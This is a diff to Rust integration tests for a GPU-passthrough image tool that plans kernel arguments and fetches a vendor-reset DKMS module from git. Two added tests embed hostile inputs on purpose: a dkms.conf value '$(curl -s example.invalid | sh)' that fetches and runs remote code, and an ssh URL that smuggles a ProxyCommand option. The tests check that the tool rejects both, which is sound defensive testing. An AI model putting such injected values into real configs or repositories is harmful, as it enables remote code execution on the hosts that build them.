@@ -1,9 +1,11 @@
 //! `plan` and `generate` through the real binary: the build context per CPU x GPU x device IDs (snapshots),
 //! determinism, bootc's kargs.d rules, and bad input (exit 2, nothing written).
 
+mod common;
+
 use std::collections::BTreeMap;
 use std::os::unix::fs::PermissionsExt;
-use std::path::Path;
+use std::path::{Path, PathBuf};
 
 use assert_cmd::Command;
 use passthru_image::kargs_d::KargsD;
@@ -120,7 +122,7 @@ fn plan_kargs(args: &[&str]) -> Vec<String> {
 }
 
 #[test]
-fn plan_json_for_amd_cpu_and_nvidia_gpu_lists_each_guide_argument_once() {
+fn plan_json_for_amd_cpu_and_nvidia_gpu_lists_what_the_kernel_takes_once() {
     let kargs = plan_kargs(&[
         "--cpu",
         "amd",
@@ -132,16 +134,11 @@ fn plan_json_for_amd_cpu_and_nvidia_gpu_lists_each_guide_argument_once() {
     assert_eq!(
         kargs,
         [
-            "amd_iommu=on",
             "iommu=pt",
             "kvm_amd.npt=1",
             "kvm_amd.avic=1",
             "kvm_amd.nested=1",
             "kvm_amd.sev=1",
-            "video=vesafb:off",
-            "video=efifb:off",
-            "video=simplefb:off",
-            "nouveau.modeset=0",
             "rd.driver.pre=vfio-pci",
             "vfio_pci.ids=10de:2684,10de:22ba",
         ]
@@ -151,9 +148,31 @@ fn plan_json_for_amd_cpu_and_nvidia_gpu_lists_each_guide_argument_once() {
         .output()
         .unwrap();
     let plan: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
-    for key in ["kargs", "initramfs_drivers", "files", "kernel", "modules"] {
+    for key in [
+        "kargs",
+        "initramfs_drivers",
+        "files",
+        "kernel",
+        "modules",
+        "omitted_kargs",
+        "vfio",
+    ] {
         assert!(plan.get(key).is_some(), "plan --json lacks {key}");
     }
+    // Each guide argument left out says why, for someone following the guide.
+    let omitted = plan["omitted_kargs"].as_array().unwrap();
+    assert!(omitted.iter().any(|o| {
+        o["karg"] == "amdgpu.aspm=0"
+            && o["reason"]
+                .as_str()
+                .unwrap()
+                .contains("gpu.disable-amdgpu-aspm")
+    }));
+    assert_eq!(
+        plan["host"],
+        serde_json::Value::Null,
+        "no --root: planned from the config alone"
+    );
     assert_eq!(plan["kernel"], serde_json::Value::Null);
     assert_eq!(
         plan["initramfs_drivers"],
@@ -161,10 +180,29 @@ fn plan_json_for_amd_cpu_and_nvidia_gpu_lists_each_guide_argument_once() {
     );
 }
 
+/// A passthru.toml in `dir` whose vendor-reset source is the stand-in module: a local directory, or the
+/// stand-in's git repository `(URL, commit)`.
+fn standin_config(dir: &Path, git: Option<(&str, &str)>) -> PathBuf {
+    let source = match git {
+        Some((url, commit)) => format!("git = \"{url}\"\ncommit = \"{commit}\""),
+        None => format!("path = \"{}\"", common::standin_source().display()),
+    };
+    let path = dir.join("passthru.toml");
+    std::fs::write(&path, format!("[vendor-reset]\n{source}\n")).unwrap();
+    path
+}
+
 #[test]
 fn generate_is_byte_for_byte_deterministic() {
     let dir = tempfile::tempdir().unwrap();
+    // A git source is fetched afresh by each run: its files in the context are the same each time.
+    let (repo, commits) = common::git_repository_of(&common::standin_source(), &[]);
+    let url = common::file_url(repo.path());
+    let config = standin_config(dir.path(), Some((&url, &commits[0])));
+    let config = config.to_str().unwrap();
     let args = [
+        "--config",
+        config,
         "--cpu",
         "amd",
         "--gpu",
@@ -175,6 +213,11 @@ fn generate_is_byte_for_byte_deterministic() {
     let first = generate(&dir.path().join("a"), &args);
     let second = generate(&dir.path().join("b"), &args);
     assert_eq!(first, second);
+    assert!(first.contains_key("sources/vendor-reset-standin/dkms.conf"));
+    assert!(
+        !first.keys().any(|path| path.contains(".git/")),
+        "git metadata in the context"
+    );
     // Regenerating into its own directory is allowed and gives the same tree.
     let again = generate(&dir.path().join("a"), &args);
     assert_eq!(first, again);
@@ -199,16 +242,35 @@ fn walk_mtimes(root: &Path) -> std::collections::BTreeSet<std::time::SystemTime>
 fn regenerating_replaces_its_own_directory_whole() {
     let dir = tempfile::tempdir().unwrap();
     let out = dir.path().join("ctx");
+    let config = standin_config(dir.path(), None);
     let with_reset = generate(
         &out,
-        &["--cpu", "amd", "--gpu", "amd", "--vfio-ids", "1002:67df"],
+        &[
+            "--config",
+            config.to_str().unwrap(),
+            "--cpu",
+            "amd",
+            "--gpu",
+            "amd",
+            "--vfio-ids",
+            "1002:67df",
+        ],
     );
     assert!(
         with_reset.contains_key("layers/host/usr/lib/udev/rules.d/99-passthru-vendor-reset.rules")
     );
     let without = generate(
         &out,
-        &["--cpu", "amd", "--gpu", "amd", "--vfio-ids", "1002:744c"],
+        &[
+            "--config",
+            config.to_str().unwrap(),
+            "--cpu",
+            "amd",
+            "--gpu",
+            "amd",
+            "--vfio-ids",
+            "1002:744c",
+        ],
     );
     assert!(
         !without.contains_key("layers/host/usr/lib/udev/rules.d/99-passthru-vendor-reset.rules"),
@@ -302,4 +364,99 @@ fn bad_input_exits_2_naming_the_field_and_writes_nothing() {
         .unwrap();
     assert_eq!(out.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&out.stderr).contains("--config"));
+}
+
+#[test]
+fn a_fetched_dkms_conf_that_needs_a_shell_is_bad_input_and_nothing_is_written() {
+    let dir = tempfile::tempdir().unwrap();
+    let hostile = "PACKAGE_NAME=\"vendor-reset-standin\"\nPACKAGE_VERSION=\"$(curl -s example.invalid | sh)\"\n";
+    let (repo, commits) =
+        common::git_repository_of(&common::standin_source(), &[("dkms.conf", hostile)]);
+    let url = common::file_url(repo.path());
+    let config = standin_config(dir.path(), Some((&url, &commits[1])));
+    let out = dir.path().join("ctx");
+    let output = bin()
+        .arg("--config")
+        .arg(&config)
+        .args(["generate", "--cpu", "amd", "--vfio-ids", "1002:67df", "-o"])
+        .arg(&out)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(2), "{stderr}");
+    assert!(
+        stderr.contains(&format!(
+            "vendor-reset.git: dkms.conf at {} of {url}, line 2: $(...) is command substitution",
+            commits[1]
+        )),
+        "{stderr}"
+    );
+    assert!(!out.exists(), "a context was written");
+}
+
+#[test]
+fn plan_names_the_commit_of_a_git_source_without_fetching_it() {
+    let dir = tempfile::tempdir().unwrap();
+    // Nothing is served at this URL: plan must not try.
+    let config = standin_config(
+        dir.path(),
+        Some((
+            "https://example.invalid/vendor-reset.git",
+            "29b25fd6929a2215477a5e39b29a0d5c4d45b6e9",
+        )),
+    );
+    let plan = |json: bool| {
+        let mut cmd = bin();
+        cmd.arg("--config").arg(&config);
+        cmd.args(["plan", "--cpu", "amd", "--vfio-ids", "1002:67df"]);
+        if json {
+            cmd.arg("--json");
+        }
+        let out = cmd.output().unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        String::from_utf8(out.stdout).unwrap()
+    };
+    let text = plan(false);
+    assert!(
+        text.contains(
+            "Module: from dkms.conf at 29b25fd6929a2215477a5e39b29a0d5c4d45b6e9 of https://example.invalid/vendor-reset.git;"
+        ),
+        "{text}"
+    );
+    let json: serde_json::Value = serde_json::from_str(&plan(true)).unwrap();
+    let module = &json["modules"][0];
+    assert_eq!(
+        module["from"],
+        "dkms.conf at 29b25fd6929a2215477a5e39b29a0d5c4d45b6e9 of https://example.invalid/vendor-reset.git"
+    );
+    assert_eq!(module["name"], serde_json::Value::Null);
+    assert_eq!(module["version"], serde_json::Value::Null);
+}
+
+#[test]
+fn an_ssh_url_whose_host_is_an_option_is_bad_input() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = standin_config(
+        dir.path(),
+        Some((
+            "ssh://-oProxyCommand=touch%20/tmp/pwned/x",
+            "29b25fd6929a2215477a5e39b29a0d5c4d45b6e9",
+        )),
+    );
+    let output = bin()
+        .arg("--config")
+        .arg(&config)
+        .args(["plan", "--cpu", "amd"])
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(2), "{stderr}");
+    assert!(
+        stderr.contains("vendor-reset.git") && stderr.contains("may not start with `-`"),
+        "{stderr}"
+    );
 }
